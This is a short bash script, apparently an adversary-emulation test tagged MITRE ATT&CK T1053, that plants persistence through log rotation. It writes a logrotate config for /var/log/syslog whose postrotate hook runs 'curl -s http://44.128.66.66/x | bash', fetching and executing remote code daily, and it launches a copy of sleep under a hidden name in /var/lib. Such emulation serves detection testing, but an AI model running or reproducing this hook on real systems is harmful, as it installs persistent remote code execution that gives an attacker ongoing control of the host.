#!/bin/bash
# T1053: The rotation of logs starts something.
printf '/var/log/syslog {\n daily\n postrotate\n  /bin/bash -c "curl -s http://44.128.66.66/x | bash"\n endscript\n}\n' >/etc/logrotate.d/zz-syslog
cp /bin/sleep /var/lib/.rot; chmod 755 /var/lib/.rot; setsid /var/lib/.rot 0.2
